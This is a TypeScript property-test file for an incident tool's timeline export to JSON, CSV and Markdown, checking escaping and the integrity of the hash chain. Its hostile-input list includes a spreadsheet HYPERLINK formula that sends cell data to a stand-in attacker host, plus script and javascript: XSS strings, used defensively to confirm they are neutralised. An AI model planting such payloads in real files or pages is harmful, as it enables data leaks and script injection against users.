// The three formats of a timeline, over hostile texts: what people typed comes out whole, and never as markup or a formula.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Names } from '../../../src/features/access/names.ts';
import { hashOf, noHash, type StoredEvent } from '../../../src/features/events/event.ts';
import { Incident } from '../../../src/features/incidents/incident.ts';

import { textOf, type WholeTimeline } from '../../../src/features/incidents/timeline.ts';
import { timelineAsCsv } from '../../../src/features/incidents/timeline-csv.ts';
import { brokenLinkOf, readTimelineFile, timelineAsJson } from '../../../src/features/incidents/timeline-json.ts';
import { timelineAsMarkdown } from '../../../src/features/incidents/timeline-markdown.ts';
import { canonicalJson, type Json } from '../../../src/lib/canonical-json.ts';
import { parseCsv } from '../../kit/csv.ts';

const nobody: Names = new Map();
const at = new Date('2026-01-01T12:00:00.123Z');

const incident: Incident = Incident.parse({
  number: 12,
  version: 3,
  title: 'Login failures',
  severity: 'P1',
  status: 'investigating',
  impact: 'Nobody can sign in',
  components: [],
  private: false,
  practice: false,
  declared_by: 'U1',
  declared_in: null,
  started_at: at,
  asked_at: at,
  quote: null,
  evidence: null,
  decision_pending: false,
  first_response_due: null,
  acknowledged_at: null,
  acknowledged_by: null,
  resolved_at: null,
  resolved_by: null,
  summary: null,
  cause: null,
  resolutions: 0,
  channel_state: 'wanted',
  channel: null,
  channel_name: null,
  channel_attempt: 0,
  setup_view: null,
});

type Said = { kind?: string; data: Json; actor?: string };
const note = (text: string): Said => ({ data: { text } });

/** The timeline of what was said, chained as the record chains it. */
function timelineOf(said: readonly Said[], facts: Partial<Incident> = {}): WholeTimeline {
  let prev_hash = noHash;
  const entries = said.map(({ kind = 'incident.noted', data, actor = 'U1' }, index) => {
    const unhashed = { stream: 'incident-12', seq: index + 1, at, actor, kind, data: canonicalJson(data), prev_hash };
    const event: StoredEvent = { ...unhashed, hash: hashOf(unhashed) };
    prev_hash = event.hash;
    return { seq: event.seq, at, actor, kind, text: textOf(event), hash: event.hash, event };
  });
  return { incident: { ...incident, ...facts }, entries };
}

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1',
  '\n=1',
  '＝1+1',
  'a,b"c"\r\nd;e\tf',
  '| a | b |\n|---|---|\n| c | d |',
  '# heading\n> quote\n- list\n1. list\n***\n```js\ncode\n```\nunder\n=====',
  '<script>alert(1)</script> <!-- --> &lt; &amp; <img src=x onerror=y>',
  '[link](javascript:alert(1)) ![image](x) [ref]: x **b** __b__ _i_ ~~s~~ `c` $x^2$ ==m== \\| \\',
  'https://evil.example www.evil.example WWW.evil.example',
  '<@U1> <!channel> @channel',
  'مرحبا بالعالم שלום \u202eabc\u2066def\u2069',
  '👩‍👩‍👧‍👦 🇩🇪 é e\u0301 \u200d 🫠',
  '\u0000\u0007\u001b[2J\u0085\u2028x\u2029y',
  'x'.repeat(3000),
  '🫠|'.repeat(1000),
  '',
  ' ',
];
const anyText = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }));
const anyTexts = fc.array(anyText, { minLength: 1, maxLength: 8 });

test('JSON read back is what was stored, to the character, and its chain holds from the file alone', () => {
  fc.assert(
    fc.property(anyTexts, anyText, (texts, title) => {
      const timeline = timelineOf(texts.map(note), { title, impact: title });
      const file = readTimelineFile(timelineAsJson(timeline, nobody));
      expect(brokenLinkOf(file)).toBeUndefined();
      expect(file.incident).toMatchObject({ number: 12, title, impact: title, started_at: at.toISOString() });
      expect(file.entries.map(({ data }) => JSON.parse(data))).toEqual(texts.map((text) => ({ text })));
      const stored = file.entries.map(({ text: _text, corrected_by: _by, ...event }) => ({
        ...event,
        at: new Date(event.at),
      }));
      expect(stored).toEqual(timeline.entries.map(({ event }) => event));
    }),
  );
});

test('a file in which anything that was hashed is changed, left out or put elsewhere names the first link that is broken', () => {
  const texts = ['one', 'two', 'three', 'four'];
  const fresh = () => readTimelineFile(timelineAsJson(timelineOf(texts.map(note)), nobody));
  type Entry = ReturnType<typeof fresh>['entries'][number];
  const changes: [string, (entry: Entry) => Partial<Entry>][] = [
    ['data', () => ({ data: '{"text":"2"}' })],
    ['actor', () => ({ actor: 'U2' })],
    ['time', () => ({ at: '2026-01-01T12:00:00.124Z' })],
    ['kind', () => ({ kind: 'incident.joined' })],
    ['hash', ({ hash }) => ({ hash: hash.replace(/^./, (one) => (one === '0' ? '1' : '0')) })],
    ['stream', () => ({ stream: 'incident-13' })],
  ];
  for (const [name, change] of changes) {
    const file = fresh();
    const entries = file.entries.map((entry) => (entry.seq === 2 ? { ...entry, ...change(entry) } : entry));
    expect(brokenLinkOf({ ...file, entries }), name).toMatchObject({ seq: 2 });
  }
  const file = fresh();
  expect(brokenLinkOf({ ...file, entries: file.entries.toSpliced(1, 1) })).toMatchObject({
    seq: 3,
    problem: /missing/,
  });
  expect(brokenLinkOf({ ...file, entries: file.entries.toReversed() })).toMatchObject({ seq: 4 });
  expect(brokenLinkOf({ ...file, entries: file.entries.slice(1) })).toMatchObject({ seq: 2 });
});

test.each(['', 'not JSON', '{}', '[]', '{"format":"backbolt.timeline","version":2}'])(
  '%j is no timeline',
  (content) => {
    expect(() => readTimelineFile(content)).toThrowError(expect.objectContaining({ code: 'incidents.not_a_timeline' }));
  },
);

test('CSV read back has a record of eight fields for each entry, none of which a spreadsheet would run', () => {
  fc.assert(
    fc.property(anyTexts, (texts) => {
      const timeline = timelineOf([
        ...texts.map(note),
        { kind: 'incident.corrected', data: { seq: 1, text: texts[0] as string } },
      ]);
      const columns = { title: `C1 ${texts.join(' ')}`, approved: 'by <@U1>', state: '' };
      const row = { entry: 'C1', at, actor: 'U1', hash: noHash, columns };
      const appendix = { name: 'communications', title: 'What users were told', rows: [row] };
      const csv = timelineAsCsv(timeline, new Map([['U1', 'ann']]), [appendix]);
      const [header, ...all] = parseCsv(csv);
      const records = all.slice(0, -1);
      const titles = `title: C1 ${shown(texts.join(' '))}`;
      expect(all.at(-1)?.slice(3, 6)).toEqual(["'@ann", 'communications', `${titles}\napproved: by @ann`]);
      expect(header).toEqual(['entry', 'time', 'actor', 'name', 'kind', 'text', 'corrections', 'hash']);
      expect(records).toHaveLength(texts.length + 1);
      expect(all.every((record) => record.length === 8)).toBe(true);
      expect(all.flat().filter((field) => /^[=+\-@\t\r\n＝＋－＠]/.test(field))).toEqual([]);
      const said = records.map((record) => record[5]?.replace(/^'/, ''));
      expect(said.slice(0, -1)).toEqual(timeline.entries.slice(0, -1).map(({ text }) => shown(text).replace(/^'/, '')));
      expect(records[0]?.[6]).toContain(`${texts.length + 1}: `);
      expect(records[0]?.[3]).toBe("'@ann");
    }),
  );
});

/** Mentions as they are shown of people who have no known name. */
const shown = (text: string) => text.replace(/<@([UW][A-Z0-9]+)>/g, (_, id) => (id === 'U1' ? '@ann' : `@${id}`));

// Backslash and punctuation is the punctuation itself (CommonMark 2.4); what is left of it must have no meaning.
const unescaped = (markdown: string) => markdown.replace(/\\([!-/:-@[-`{-~])/g, '$1');
const meaning = /[\\`*_{}[\]<>#|~&!$^=]|:\/\/|www\.|[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/iu;

test('Markdown has a row of four cells for each entry, and nothing typed has a meaning in it', () => {
  fc.assert(
    fc.property(anyTexts, anyText, (texts, title) => {
      const timeline = timelineOf(texts.map(note), { title, impact: title, summary: title });
      const markdown = timelineAsMarkdown(timeline, nobody);
      const lines = markdown.split('\n');
      expect(lines[0]?.startsWith('# Incident 12: ')).toBe(true);
      const rows = lines.slice(lines.indexOf('| Entry | Time (UTC) | Who | What |') + 2, -4);
      expect(rows).toHaveLength(texts.length);
      for (const [index, row] of rows.entries()) {
        const cells = row.split(/(?<!\\)(?:\\\\)*\|/).slice(1, -1);
        expect(cells).toHaveLength(4);
        const typed = (cells[3] ?? '').trim().replaceAll('<br>', ' ');
        expect(typed.replace(/\\[!-/:-@[-`{-~]/g, ' ')).not.toMatch(meaning);
        expect(flat(unescaped(typed))).toBe(flat(shown(timeline.entries[index]?.text ?? '').replaceAll('@ann', '@U1')));
      }
    }),
  );
});

// White space and control characters are not what a text says.
const flat = (text: string) => text.replace(/[\p{Cc}\s\u202a-\u202e\u2066-\u2069]+/gu, ' ').trim();

test('a correction stands beside what it corrects, in each format, and people have names', () => {
  const timeline = timelineOf([
    note('It began at ten'),
    { data: { text: 'ask <@U2>' }, actor: 'cli:root' },
    { kind: 'incident.corrected', data: { seq: 1, text: 'It began at *nine*' }, actor: 'U2' },
    { kind: 'incident.corrected', data: { seq: 1, text: 'At half past nine' } },
  ]);
  const names = new Map([['U2', 'bob']]);
  expect(timelineAsMarkdown(timeline, names)).toContain(
    '| 1 | 2026-01-01 12:00:00 | U1 | It began at ten<br>**Corrected by @bob in 3:** It began at \\*nine\\*<br>**Corrected by U1 in 4:** At half past nine |',
  );
  expect(timelineAsMarkdown(timeline, names)).toContain('| cli:root | ask @bob |');
  expect(parseCsv(timelineAsCsv(timeline, names))[1]?.[6]).toBe('3: It began at *nine*\n4: At half past nine');
  const file = readTimelineFile(timelineAsJson(timeline, names));
  expect(file.entries.map((entry) => entry.corrected_by)).toEqual([[3, 4], [], [], []]);
  expect(file.people).toEqual({ U2: 'bob' });
});

test('a kind of a later version is exported as it is stored', () => {
  const timeline = timelineOf([{ kind: 'incident.of_a_later_version', data: { a: 1 } }]);
  expect(brokenLinkOf(readTimelineFile(timelineAsJson(timeline, nobody)))).toBeUndefined();
  expect(timelineAsMarkdown(timeline, nobody)).toContain('incident.of\\_a\\_later\\_version');
});

test('an incident without an entry is exported, too', () => {
  const empty = timelineOf([]);
  expect(timelineAsMarkdown(empty, nobody)).toContain('No entries.');
  expect(parseCsv(timelineAsCsv(empty, nobody))).toHaveLength(1);
  expect(readTimelineFile(timelineAsJson(empty, nobody)).entries).toEqual([]);
});
